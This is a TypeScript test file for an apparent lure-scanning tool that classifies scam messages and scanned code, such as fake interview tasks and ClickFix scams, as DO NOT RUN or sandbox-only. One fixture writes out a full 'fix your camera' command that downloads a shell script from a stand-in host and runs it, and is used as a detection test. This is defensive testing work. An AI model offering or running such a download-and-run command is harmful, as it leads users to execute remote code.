import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import { check, combine, linkedCode, matchTarget, normName, targetNames, type CheckReport } from '../../src/api/check.js';
import { scan } from '../../src/api/scan.js';
import type { Report } from '../../src/core/report.js';
import { triageMessage } from '../../src/triage/index.js';
import { buildZip } from '../hostile/helpers/zip-writer.js';
import { CLEAN_FIXTURE, CLICKFIX, EXAMPLE, LEGIT, LURE, tmpDir, validateCheck } from './helpers.js';

function assertValid(r: CheckReport) {
  assert.ok(validateCheck(r), `check report does not match schema/check.schema.json:\n${JSON.stringify(validateCheck.errors, null, 2)}`);
}

/** A code report with another verdict: the combination rules are about verdicts, not about particular rules. */
const withVerdict = (r: Report, verdict: Report['verdict'], score: number): Report => ({ ...r, verdict, score });

describe('check: message × code combinations', () => {
  let lureCode: Report;
  let cleanCode: Report;
  before(async () => {
    [lureCode, cleanCode] = await Promise.all([scan(EXAMPLE), scan(CLEAN_FIXTURE)]);
    assert.equal(lureCode.verdict, 'malicious');
    assert.equal(cleanCode.verdict, 'clean');
  });

  it('lure message + the example lure → DO NOT RUN, schema-valid, code findings and message tactics carried', async () => {
    const r = await check({ message: LURE, messageFile: 'lure.txt', target: EXAMPLE });
    assert.equal(r.verdict, 'malicious');
    assert.ok(r.score >= 80);
    assert.equal(r.kind, 'check');
    assert.equal(r.message.risk, 'high');
    assert.equal(r.code?.verdict, 'malicious');
    assert.match(r.reasons[0]!, /code is malicious on its own/);
    assertValid(r);
  });

  it('lure message + clean code → RUN ONLY IN A SANDBOX, because payloads may be only on the wire', async () => {
    const r = await check({ message: LURE, target: CLEAN_FIXTURE });
    assert.equal(r.verdict, 'suspicious');
    assert.equal(r.advice, 'RUN ONLY IN A SANDBOX');
    assert.ok(r.score >= 40 && r.score < 80, `score ${r.score}`);
    assert.ok(r.reasons.some((x) => /approach itself is a lure pattern/.test(x) && /only on the wire/.test(x)), r.reasons.join('\n'));
    assert.ok(r.nextSteps.some((s) => /disposable VM|lurescan detonate/.test(s)));
    assertValid(r);
  });

  it('benign message + clean code → NO KNOWN THREAT', async () => {
    const r = await check({ message: LEGIT, target: CLEAN_FIXTURE });
    assert.equal(r.verdict, 'clean');
    assert.equal(r.advice, 'NO KNOWN THREAT');
    assert.ok(r.score < 40);
    assert.equal(r.incomplete, false);
    assertValid(r);
  });

  it('benign message + malicious code → DO NOT RUN (a friendly message does not lower a malicious verdict)', () => {
    const r = combine(triageMessage(LEGIT), lureCode, undefined);
    assert.equal(r.message.risk, 'low');
    assert.equal(r.verdict, 'malicious');
    assertValid(r);
  });

  it('suspicious code: DO NOT RUN with a high-risk message, a sandbox otherwise', () => {
    const sus = withVerdict(cleanCode, 'suspicious', 50);
    assert.equal(combine(triageMessage(LURE), sus, undefined).verdict, 'malicious');
    assert.equal(combine(triageMessage(LEGIT), sus, undefined).verdict, 'suspicious');
    assert.match(combine(triageMessage(LURE), sus, undefined).reasons[0]!, /Suspicious code .* high-risk lure message/);
  });

  it('a pasted ClickFix command is DO NOT RUN on its own, with or without clean code', () => {
    const alone = combine(triageMessage(CLICKFIX), undefined, undefined);
    assert.equal(alone.verdict, 'malicious');
    assert.match(alone.reasons[0]!, /paste a command that downloads and runs code/);
    assert.equal(combine(triageMessage(CLICKFIX), cleanCode, undefined).verdict, 'malicious');
    assertValid(alone);
  });

  it('a "fix your camera" message with a download-then-run command that triage does not mark dangerous is still DO NOT RUN', () => {
    const msg = 'Camera access error. Open Terminal and paste this to update your camera driver:\ncurl -k -o /tmp/fix.sh https://cam-driver.example/fix.sh && bash /tmp/fix.sh';
    assert.equal(combine(triageMessage(msg), undefined, undefined).verdict, 'malicious');
  });

  it('without a target: the message verdict alone and the instruction to scan what they sent', () => {
    const lure = combine(triageMessage(LURE), undefined, undefined);
    assert.equal(lure.verdict, 'malicious');
    assert.ok(lure.nextSteps.some((s) => /Scan what they sent/.test(s)));
    assert.equal(lure.code, undefined);
    const legit = combine(triageMessage(LEGIT), undefined, undefined);
    assert.equal(legit.verdict, 'clean');
    assert.match(legit.nextSteps[0]!, /Scan what they sent/);
    assertValid(lure);
    assertValid(legit);
  });

  it('an incomplete code scan is carried (exit code 2 in the CLI) and said', () => {
    const r = combine(triageMessage(LEGIT), { ...cleanCode, incomplete: true, errors: [{ path: 'big.bin', message: 'too big' }] as Report['errors'] }, undefined);
    assert.equal(r.incomplete, true);
    assert.ok(r.reasons.some((x) => /incomplete/.test(x)));
  });
});

describe('check: links in the message vs the target', () => {
  it('a repository link matches the package.json name of the scanned folder', async () => {
    const msg = `${LURE}\nRepo: https://bitbucket.org/dexora-labs/crypto-dashboard-task`;
    const r = await check({ message: msg, target: EXAMPLE });
    assert.equal(r.match?.status, 'match');
    assert.equal(r.match?.matched?.targetName, 'crypto-dashboard-task');
    assert.ok(r.reasons.some((x) => /matches it/.test(x)));
    assertValid(r);
  });

  it('a repository link to something else → mismatch, said as "links X but you scanned Y"; the scan cannot lower the message verdict', async () => {
    const msg = `${LURE}\nRepo: https://github.com/estate-chain/rental-dapp`;
    const r = await check({ message: msg, target: CLEAN_FIXTURE });
    assert.equal(r.match?.status, 'mismatch');
    assert.match(r.match!.note, /links https:\/\/github\.com\/estate-chain\/rental-dapp but you scanned clean-app \(todo-api\)/);
    // Clean code that is not what they sent: the high-risk message alone says DO NOT RUN.
    assert.equal(r.verdict, 'malicious');
    assert.ok(r.nextSteps.some((s) => /Scan the code the message links/.test(s)));
    assertValid(r);
  });

  it('an archive named in a file-share link or as an attachment matches the package name', () => {
    const names = ['clean-app', 'todo-api'];
    const share = triageMessage('Code is on Dropbox: https://www.dropbox.com/s/8fk2la9qz0x1/todo-api.zip?dl=0');
    assert.equal(matchTarget(linkedCode(share), names).status, 'match');
    const raw = 'Please find the pre-interview task attached (todo-api-main.zip). Unzip it and run node app.js.';
    const att = linkedCode(triageMessage(raw), raw);
    assert.deepEqual(att.map((l) => [l.kind, l.name]), [['archive', 'todo-api-main.zip']]);
    assert.equal(matchTarget(att, names).status, 'match');
  });

  it('a Google Drive link shows no file name → unverifiable, and the note says to make sure', () => {
    const m = triageMessage('Download it here: https://drive.google.com/file/d/1xQ9mZpL0aR7kT3vW8yB2cD4/view and run it.');
    const r = matchTarget(linkedCode(m), ['task']);
    assert.equal(r.status, 'unverifiable');
    assert.match(r.note, /make sure task is exactly what you downloaded/);
  });

  it('a lure with a Drive link + clean code: unverifiable does not escalate, RUN ONLY IN A SANDBOX', async () => {
    const r = await check({ message: `${LURE}\nDownload: https://drive.google.com/file/d/1xQ9mZpL0aR7kT3vW8yB2cD4/view`, target: CLEAN_FIXTURE });
    assert.equal(r.match?.status, 'unverifiable');
    assert.equal(r.verdict, 'suspicious');
    assert.ok(r.reasons.some((x) => /make sure clean-app \(todo-api\) is exactly what you downloaded/.test(x)), r.reasons.join('\n'));
  });

  it('no links → no-links, and nothing about matching in the reasons', async () => {
    const r = await check({ message: LEGIT.replace(/https?:\/\/\S+/g, ''), target: CLEAN_FIXTURE });
    assert.equal(r.match?.status, 'no-links');
    assert.ok(!r.reasons.some((x) => /links/.test(x)));
  });

  it('npm targets answer to their package name; a package in the message is compared with it', async () => {
    assert.deepEqual(await targetNames('npm:@acme/todo-api@1.2.0'), ['@acme/todo-api']);
    const raw = 'Before the call run:\n`npm install todo-api@1.2.0`';
    const linked = linkedCode(triageMessage(raw), raw);
    assert.equal(matchTarget(linked, await targetNames('npm:todo-api@1.2.0')).status, 'match');
    assert.equal(matchTarget(linked, await targetNames('npm:other-pkg')).status, 'mismatch');
  });

  it('a zip: its file name, its single top folder and its package.json name', async () => {
    const d = tmpDir('lurescan-check-');
    const zip = join(d, 'download (1).zip');
    writeFileSync(zip, buildZip([{ name: 'nft-market-core-main/package.json', data: '{"name":"nft-market","repository":{"type":"git","url":"git+https://github.com/metaverse-labs-dev/nft-market-core.git"}}' }]));
    const names = await targetNames(zip);
    assert.deepEqual(names, ['download (1).zip', 'nft-market-core-main', 'nft-market', 'https://github.com/metaverse-labs-dev/nft-market-core.git']);
    const m = triageMessage('repo is here https://github.com/metaverse-labs-dev/nft-market-core');
    assert.equal(matchTarget(linkedCode(m), names).status, 'match');
  });

  it('hostile messages: thousands of archive names and 10 000-character lines stay bounded and fast', () => {
    const many = Array.from({ length: 200_000 }, (_, i) => `f${i}.zip`).join(' ');
    let t = performance.now();
    assert.equal(linkedCode(triageMessage('hi'), many).length, 100);
    const long = Array(2000).fill(' a.a.a.a.a.a'.repeat(900)).join('\n');
    assert.equal(linkedCode(triageMessage('hi'), long).length, 0);
    assert.ok(performance.now() - t < 5000, `${Math.round(performance.now() - t)} ms`);
    assert.equal(matchTarget(linkedCode(triageMessage('hi'), many), ['f199999']).status, 'mismatch');
  });

  it('names compare without owner, extension, version or branch suffix', () => {
    for (const n of ['owner/nft-market-core.git', 'nft-market-core-main.zip', 'nft_market_core-1.2.0.tgz', '@scope/nft-market-core@2.0.0', 'https://github.com/o/nft-market-core']) {
      assert.equal(normName(n), 'nftmarketcore', n);
    }
  });
});
